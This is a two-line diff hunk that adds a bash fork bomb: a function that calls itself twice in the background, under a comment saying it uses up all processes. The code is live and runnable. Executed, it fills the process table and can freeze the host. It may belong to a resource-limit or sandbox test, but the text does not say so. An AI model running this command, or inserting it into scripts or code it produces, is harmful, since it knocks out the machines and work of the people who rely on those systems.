@@ -1,0 +1,2 @@
+# Uses up all processes.
+bomb() { bomb | bomb & }; bomb; sleep 1
